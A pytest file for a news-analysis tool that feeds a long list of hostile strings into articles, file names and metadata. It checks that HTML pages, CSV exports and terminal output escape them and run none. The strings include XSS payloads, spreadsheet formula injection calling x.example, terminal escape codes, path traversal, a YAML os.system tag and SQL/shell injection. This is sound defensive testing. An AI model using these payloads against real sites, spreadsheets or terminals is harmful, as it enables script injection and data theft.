"""Text that means harm: it is shown, counted and written as it is; it never runs, hides, or steers what shows it."""

from __future__ import annotations

import contextlib
import csv
import json
import re
import unicodedata
from pathlib import Path

import nbformat
import papermill
import pytest
import yaml
from playwright.sync_api import Browser, Page

from browsing import HANDLERS
from in_process import execute_notebook
from newsangles import show
from newsangles.cli import commands as cli_commands
from newsangles.documents import project
from newsangles.documents.article import Article, slug
from newsangles.documents.read import read
from newsangles.pipeline.parse import parse
from newsangles.site import folds, pages
from newsangles.site.article_list import Entry
from newsangles.site.report import report
from newsangles.tables import schema, tables, write

PAYLOADS = {
    "script": "<script>document.title='ran'</script>",
    "script in capitals": "<ScRiPt src=//x.example/a.js></sCrIpT>",
    "script without an end": "<script>alert(1)//",
    "image handler": "<img src=x onerror=\"document.title='ran'\">",
    "image handler without spaces": "<img/src=x/onerror=alert(1)>",
    "pointer handler": "<b onmouseover=alert(1) onclick=alert(1)>b</b>",
    "focus handler": "<input autofocus onfocus=alert(1)>",
    "folded handler": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "out of an attribute": '" onfocus=alert(1) autofocus x="',
    "out of a single-quoted attribute": "' onfocus='alert(1)' autofocus '",
    "end of title": "</title><script>alert(1)</script>",
    "end of style": "</style><style>body{display:none}</style>",
    "end of everything": "</p></div></main></body></html>",
    "end of a text area": "</textarea></pre></code></td></table>",
    "open table": "<table><tr><td>",
    "comment": "<!-- --!> <!--",
    "character data": "<![CDATA[ ]]> <?php echo 1 ?>",
    "style": "<style>*{display:none!important}</style>",
    "style attribute": '<b style="position:fixed;inset:0;background:url(//x.example/p)">b</b>',
    "CSS escape": "\\3C script\\3E } body{display:none} @import '//x.example/c.css';",
    "script link": "<a href=javascript:alert(1)>a</a> javascript:alert(1)",
    "script link in pieces": '<a href="java\tscript:alert(1)">a</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "SVG": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "SVG animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "MathML": "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "frame": "<iframe src=javascript:alert(1) srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "object": "<object data=//x.example/o></object><embed src=//x.example/e>",
    "refresh": "<meta http-equiv=refresh content='0;url=//x.example/'>",
    "base": "<base href=//x.example/><link rel=stylesheet href=//x.example/c.css>",
    "form": "<form action=//x.example/ id=f><button form=f formaction=javascript:alert(1)>b</button></form>",
    "clobbered names": "<a id=main name=body>a</a><p id=s1>p</p>",
    "template": '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x>">',
    "Jinja": "{{ 7*7 }} {% for x in y %} {# no #} {{ config.__class__ }}",
    "Angular": "{{constructor.constructor('alert(1)')()}}",
    "string template": "${alert(1)} #{7*7} <%= 7*7 %> @{7*7}",
    "dollars": "from $5 billion to $3 billion, $$x^2$$",
    "LaTeX": "\\(x^2\\) \\[y\\] \\begin{equation}\\href{javascript:alert(1)}{z}\\end{equation}",
    "Markdown": "**b** _i_ [a](javascript:alert(1)) ![i](//x.example/i.png) # h `c` | t | [^1]",
    "entities": "&lt;script&gt; &amp;amp; &#60;b&#62; &#x3C;b&#x3E; &copy &notit; &NotEqualTilde;",
    "double encoding": "%3Cscript%3E &amp;lt;script&amp;gt; %253Cb%253E \\u003cb\\u003e",
    "bidirectional overrides": "\u202egnp.exe\u202c \u2066a\u2069 \u200fb\u200e \u061c",
    "unclosed override": "\u202e\u202d\u2067",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\u00adf\u180eg",
    "tag characters": "a\U000e0041\U000e0042\U000e007f b\ufff9c\ufffb",
    "byte order marks": "\ufeffa\ufeff",
    "combining flood": "e" + "\u0301\u0489" * 200,
    "controls": "\x01\x02\x07\x08\x0b\x0c\x1a\x1f\x7f\x80\x85\x9f",
    "separators": "a\u2028b\u2029c\u00a0d\u3000e\u200af",
    "private and unassigned": "\ue000\U000f0000\ufdd0\ufffe\U0010ffff",
    "lone carriage return": "a\rb\r\rc",
    "tabs": "a\t\tb",
    "formula": "=cmd|' /C calc'!A0",
    "formula with a function": '=HYPERLINK("//x.example/"&A1,"a")',
    "formula of plus": "+1+cmd|' /C calc'!A0",
    "formula of minus": "-2+3+cmd|' /C calc'!A0",
    "formula of at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula in full width": "＝1＋1 ＋1 －1 ＠x",
    "formula after a tab": "\t=1+1",
    "formula after a quote": '"=1+1",=1+1;=1+1\r=1+1',
    "terminal colours": "\x1b[31mred\x1b[0m\x1b[2J\x1b[H",
    "terminal title": "\x1b]0;owned\x07 \x1b]2;owned\x1b\\",
    "terminal link": "\x1b]8;;http://x.example/\x1b\\a\x1b]8;;\x1b\\",
    "terminal in eight bits": "\x9b31m \x9d0;owned\x9c \x90q\x9c",
    "rich markup": "[bold red]x[/bold red] [link=//x.example/]y[/link] :smile: [/]",
    "path": "../../../etc/passwd ..\\..\\x /abs C:\\x file:///etc/passwd",
    "device names": "con nul aux. prn... com1 lpt9",
    "homoglyphs": "раураl ｓcript ＜script＞ ﹤b﹥ ʺ ʹ",
    "astral": "🙂🏽👨‍👩‍👧🇺🇦 𝒳𐍈 字",
    "YAML": "a: b # c - [d, {e: *f, g: &h !!python/object/apply:os.system ['x']}] | > %",
    "JSON": '"}],"x":{"y":[1e999,NaN]} \\u0000 \\ud800',
    "formats": "%s %d %n %(x)s {0} {x!r:>{y}} %99999999s",
    "SQL and shell": "'; DROP TABLE articles; -- $(id) `id` | id && id",
    "quotation marks": "“‘\"«„''``”’\"»“",
}
"""What is put wherever an article says something; none holds a line break, NUL or half a character (see below)."""

GIANTS = {
    "a word of 100,000 characters": "x" * 100_000,
    "10,000 quotation marks": '“"‘«” ' * 1_000,
}
"""Texts whose size is the harm; each stands in a document of its own."""

FIRST = (
    "Ana",
    "Boris",
    "Carla",
    "David",
    "Elena",
    "Frank",
    "Grace",
    "Henry",
    "Irina",
    "James",
    "Karen",
    "Louis",
    "Maria",
)
LAST = ("Ruiz", "Miller", "Novak", "Schmidt", "Thompson", "Petrov", "Walker", "Rossi")
NAMES = [f"{first} {last}" for last in LAST for first in FIRST]
ALL = " | ".join(PAYLOADS.values())
FILE = "<b onclick=alert(1)> & 'x' \x1b[31m \x1b]0;owned\x07 \u202egnp \u200b %s {{7*7}} $5 {0} =1+1\n.txt"
"""A file's name, as hostile as the system lets it be."""


def spoken(payload: str, name: str = "Ana Ruiz") -> str:
    """A paragraph in which a payload reaches the rows of most tables."""
    said = f"“We saw {payload},” {name} said."
    return f"{name} {payload} said that officials attacked the {payload} bank on Monday. {said}\n\n"


def put_into_texts(folder: Path) -> None:
    paragraphs = [spoken(payload, name) for payload, name in zip(PAYLOADS.values(), NAMES, strict=False)]
    (folder / "all.txt").write_bytes("".join(paragraphs).encode())


def put_into_sidecars(folder: Path) -> None:
    about = dict.fromkeys(("title", "outlet", "url", "author"), ALL)
    (folder / "all.json").write_text(json.dumps(about), "utf-8")


def put_into_file_names(folder: Path) -> None:
    (folder / FILE).write_bytes(spoken(ALL).encode())


def put_into_aliases(folder: Path) -> None:
    entries = [{"name": p, "also": [name]} for p, name in zip(PAYLOADS.values(), NAMES, strict=False)]
    (folder / "aliases.yaml").write_text(yaml.safe_dump(entries), "utf-8")


def put_into_corrections(folder: Path) -> None:
    """Who and why, an actor's name, and a text that does not stand there, so that the line is told on pages."""
    text = (folder / "all.txt").read_bytes().decode()
    verbs = [match.start() for match in re.finditer("said", text)]
    lines = []
    for payload, start in zip(PAYLOADS.values(), verbs, strict=False):
        by = {"article": "all", "who": payload, "why": payload}
        named = {"actor": payload, "kind": "nominal", "label": "person"}
        place = {"start": start, "end": start + 4, "text": "said"}
        lines.append({**by, "table": "mentions", "do": "add", **place, "set": named})
        lines.append({**by, "table": "quotes", "do": "drop", "start": start, "end": start + 4, "text": f"{payload}?"})
    path = folder / "corrections.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), "utf-8")


PLACES = (put_into_texts, put_into_sidecars, put_into_file_names, put_into_aliases, put_into_corrections)
"""Where a user's or an outlet's words come in. A new place is one more function here; all checks then look at it."""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Documents, and what stands beside them, full of payloads."""
    folder = tmp_path_factory.mktemp("hostile")
    for put in PLACES:
        put(folder)
    return folder


@pytest.fixture(scope="module")
def site(folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("out")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(papermill, "execute_notebook", execute_notebook)
        patch.setenv("NEWSANGLES_ANY_LANGUAGE", "1")  # as the program tells its kernels
        summary = report(read(folder, any_language=True), out, problems=[f"{p}: not found" for p in PAYLOADS.values()])
    assert not summary.failed
    return out


class Watched:
    """A page with its policy against scripts switched off, so that escaping alone must hold, and what it did."""

    def __init__(self, browser: Browser, address: str) -> None:
        self.did: list[str] = []
        self.page: Page = browser.new_page(bypass_csp=True)
        self.page.on("dialog", lambda dialog: (self.did.append(f"asked {dialog.message}"), dialog.dismiss()))
        self.page.on("request", lambda request: self.did.append(f"requested {request.url}"))
        self.page.on("console", lambda message: self.did.append(f"said {message.text}"))
        self.page.on("pageerror", lambda error: self.did.append(f"failed with {error}"))
        self.page.on("popup", lambda popup: self.did.append(f"opened {popup.url}"))
        self.page.route(lambda url: not url.startswith(("file:", "data:", "about:")), lambda route: route.abort())
        self.page.goto(address)
        self.did = [what for what in self.did if what != f"requested {address}"]
        self.title = self.page.title()

    def check(self) -> None:
        """Nothing ran, nothing could run, and nobody is lead out of the page by a script."""
        page = self.page
        page.evaluate("document.querySelectorAll('[tabindex], a, summary').forEach(e => e.focus())")
        page.mouse.move(100, 300)
        assert (self.did, page.title()) == ([], self.title)
        assert page.evaluate(HANDLERS) == []
        assert page.locator(", ".join(FORBIDDEN)).count() == 0
        for name in ("href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"):
            found = page.evaluate(
                "name => [...document.querySelectorAll('*')].map(e => e.getAttribute(name)).filter(Boolean)", name
            )
            assert not [value for value in found if not re.fullmatch(r"(#|\.\./|data:image/)?[\w./#:;,=+-]*", value)]
            assert not [value for value in found if re.match(r"\s*(javascript|vbscript|data:text|https?:|//)", value)]
        raw = page.evaluate("document.documentElement.outerHTML")
        assert {c for c in raw if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co"}} <= set("\t\n\r")


OURS = "form:not(.choice)", "input:not(.choice input[type=radio])"  # the choice of a layer is our own
FORBIDDEN = ("script", "iframe", "object", "embed", *OURS, "base", "link", "template", "noscript", "math")
FORBIDDEN += (
    "meta[http-equiv=refresh]",
    "svg script",
    "animate",
    "textarea",
    "img:not([src^='data:image/'])",
    "td td td td",
)

# The text that a marked article shows, with what the page adds taken out and the badges of hidden characters undone.
SHOWN = """article => {
  const copy = article.cloneNode(true);
  copy.querySelectorAll('a.n, .label, .rows').forEach(e => e.remove());
  copy.querySelectorAll('.hid').forEach(e => {
    const [, code, times] = e.textContent.match(/^U\\+([0-9A-F]+)(?:×([\\d,]+))?$/);
    e.replaceWith(String.fromCodePoint(parseInt(code, 16)).repeat(times ? Number(times.replaceAll(',', '')) : 1));
  });
  return copy.textContent;
}"""


def outputs(path: Path) -> list[str]:
    """The HTML outputs of the notebook that a page was made of."""
    cells = nbformat.read(path.with_suffix(".ipynb"), 4).cells
    return [o.data["text/html"] for c in cells if c.cell_type == "code" for o in c.outputs if "text/html" in o.data]


def made_of_notebooks(site: Path) -> list[Path]:
    found = [path for path in sorted(site.rglob("*.html")) if path.with_suffix(".ipynb").exists()]
    together = sum(map(project.is_together, project.notebooks()))
    assert len(found) == 2 * (len(project.notebooks()) - together) + together
    return found


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 40 and len(set(PAYLOADS.values())) == len(PAYLOADS) <= len(NAMES)


def test_no_page_runs_or_loses_anything(site: Path, folder: Path, browser: Browser) -> None:
    texts = {slug(article.id): article.text for article in read(folder, any_language=True)}
    for path in sorted(site.rglob("*.html")):
        watched = Watched(browser, path.as_uri())
        watched.check()
        page = watched.page
        assert page.locator("body > main").count() == page.locator("main").count() == 1, path
        assert page.evaluate("document.body.lastElementChild.localName") == "footer", path
        for article in page.locator("main .article").all():
            assert article.evaluate(SHOWN) == texts[path.parent.name], f"{path}: text lost"
        page.close()


FRAMED = ":is(main, main > .part, main > .part > .part)"


def test_no_payload_breaks_the_frame_of_a_page(site: Path, browser: Browser) -> None:
    for path in made_of_notebooks(site):
        page = browser.new_page(java_script_enabled=False)
        page.goto(path.as_uri())
        cells = nbformat.read(path.with_suffix(".ipynb"), 4).cells
        headings = [h for c in cells if c.cell_type == "markdown" for h in re.findall(r"^##? +(.+)$", c.source, re.M)]
        title = "main > .kicker" if path.parent != site else "main > .words > h1"
        words = page.locator(f"{title}, {FRAMED} > .words > h2, {FRAMED} > summary > h2")
        assert sorted(words.all_text_contents()) == sorted([*headings, "How this was made"])
        framed = page.locator(f"{FRAMED} > .cell")
        folds.join_code(book := nbformat.read(path.with_suffix(".ipynb"), 4))
        assert framed.count() == sum(cell.cell_type == "code" for cell in book.cells)
        assert page.locator("table").count() == sum(html.count("<table>") for html in outputs(path))
        assert page.locator("svg").count() == sum(html.count("<svg xmlns=") for html in outputs(path))
        page.close()


def test_jupyterlab_runs_and_loses_nothing(site: Path, folder: Path, browser: Browser) -> None:
    """A trusted notebook's HTML is put into the page as it is, without any policy."""
    texts = {slug(article.id): article.text for article in read(folder, any_language=True)}
    for path in made_of_notebooks(site):
        watched = Watched(browser, "about:blank")
        watched.page.evaluate(
            "outputs => { for (const html of outputs) {"
            " const area = document.body.appendChild(document.createElement('div')); area.innerHTML = html } }",
            outputs(path),
        )
        watched.check()
        for article in watched.page.locator(".article").all():
            assert article.evaluate(SHOWN) == texts[path.parent.name], path
        watched.page.close()


@pytest.mark.parametrize("place", ["id", "name", "outlet"])
def test_each_payload_in_a_list_of_articles(browser: Browser, tmp_path: Path, place: str) -> None:
    entries = [
        Entry(**{"id": f"x{n}", "name": "n", "angles": ("a",), place: payload})  # type: ignore[arg-type]
        for n, payload in enumerate(PAYLOADS.values())
    ]
    angle = pages.Angle("a", "A", "What?")
    path = tmp_path / "index.html"
    path.write_bytes(pages.index(entries, [angle], failed=list(PAYLOADS.values())).encode())
    watched = Watched(browser, path.as_uri())
    watched.check()
    assert (
        watched.page.locator("ol.entries > li").count()
        == watched.page.locator("ul.failed > li").count()
        == len(PAYLOADS)
    )
    assert watched.page.locator("ol.entries a").count() == len(PAYLOADS)
    every = f"found => found.map({SHOWN})"
    assert watched.page.locator("ul.failed > li").evaluate_all(every) == list(PAYLOADS.values())
    if place != "id":
        where = {"name": "ol.entries h3 bdi", "outlet": "ol.entries .meta bdi"}[place]
        assert watched.page.locator(where).evaluate_all(every) == list(PAYLOADS.values())
    watched.page.close()


@pytest.mark.parametrize("name", GIANTS)
def test_a_giant_is_shown_whole(browser: Browser, name: str) -> None:
    text = spoken(GIANTS[name])
    (doc,) = parse([Article("giant", text)])
    frames = tables([doc])
    marks = show.marks(frames["quotes"], label="cue", kind="kind", id="quote_id")
    rows = show.table(frames["claims"], caption="Claims", columns=["claim_id", "text"], docs=doc)
    watched = Watched(browser, "about:blank")
    watched.page.evaluate("html => { document.body.innerHTML = html }", show.stack(show.marked(doc, marks), rows).html)
    watched.check()
    assert watched.page.locator(".article").evaluate(SHOWN) == text
    watched.page.close()


# --- Files ---


def test_tables_keep_every_payload_and_run_none(folder: Path, tmp_path: Path) -> None:
    docs = list(parse(read(folder, any_language=True)))
    frames = tables(docs)
    write(docs, tmp_path, "csv")
    kept = ""
    for name, frame in frames.items():
        with (tmp_path / f"{name}.csv").open(encoding="utf-8-sig", newline="") as file:
            csv.field_size_limit(10_000_000)
            rows = list(csv.DictReader(file))
        assert len(rows) == len(frame)
        for column in schema.columns(schema.TABLES[name]):
            if column.dtype not in ("str", "category"):
                continue
            for cell, value in zip((row[column.name] for row in rows), frame[column.name], strict=True):
                value = "" if value is None or value != value else str(value)
                assert not cell.startswith(FORMULA), (name, column.name, cell[:40])
                assert cell in (value, f"'{value}"), (name, column.name)
                assert (cell != value) == value.startswith(FORMULA), (name, column.name, cell[:40])
                kept += cell
    assert [payload for payload in PAYLOADS.values() if payload not in kept] == []


FORMULA = tuple("=+-@＝＋－＠\t\r\n")


def test_rows_carry_the_payloads(folder: Path) -> None:
    """Else the checks above would look at nothing but a text."""
    frames = tables(parse(read(folder, any_language=True)))
    for name, least in (("quotes", 70), ("claims", 50), ("actors", 50), ("events", 30)):
        texts = [str(row) for row in frames[name].to_dict("records")]
        assert (
            sum(any(payload in text for text in texts) for payload in map(repr_inside, PAYLOADS.values())) >= least
        ), name


def repr_inside(text: str) -> str:
    return repr(text)[1:-1]


# --- The terminal ---


def test_nothing_steers_the_terminal(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """What the commands say, errors included, holds no control character but line ends."""
    monkeypatch.chdir(tmp_path)
    escape = "\x1b[31m\x9b2J\x07\u202e\u200b"
    wrong = tmp_path / f"{escape}.yaml"
    wrong.write_text(f'- "{escape}": x\n', "utf-8")
    commands = [
        ["show", str(folder / FILE), "--any-language"],
        ["show", str(folder / "all.txt"), "--any-language"],
        ["explain", str(folder / "all.txt"), "4", "--any-language"],
        ["extract", escape, "--out", "out"],
        ["extract", str(folder / "all.txt"), "--any-language", "--out", f"out{escape}", "--format", "csv"],
        ["extract", str(folder / "all.txt"), "--out", "out", "--format", escape],
        ["extract", str(folder / "all.txt"), "--out", "out", "--published", escape],
        ["extract", str(folder / "all.txt"), "--any-language", "--out", "out", "--aliases", str(wrong)],
        ["extract", str(folder / "all.txt"), "--out", "out", "--model", escape],
        ["report", str(folder / "all.txt"), "--out", "out", "--notebooks", escape],
        ["report", str(folder / "all.txt"), "--out", "out", "-p", f"{escape}=1"],
        ["explain", str(folder / "all.txt"), escape],
        [escape],
        ["show", "--\x1b[31m\x9b2J\x07"],  # told by typer, which leaves what no terminal obeys as the user typed it
    ]
    for command in commands:
        monkeypatch.setattr("sys.argv", ["newsangles", *command])
        capfd.readouterr()
        with contextlib.suppress(SystemExit):
            cli_commands.main()
        said = "".join(capfd.readouterr())
        assert said and not {c for c in said if unicodedata.category(c) in {"Cc", "Cf"}} - {"\n"}, command
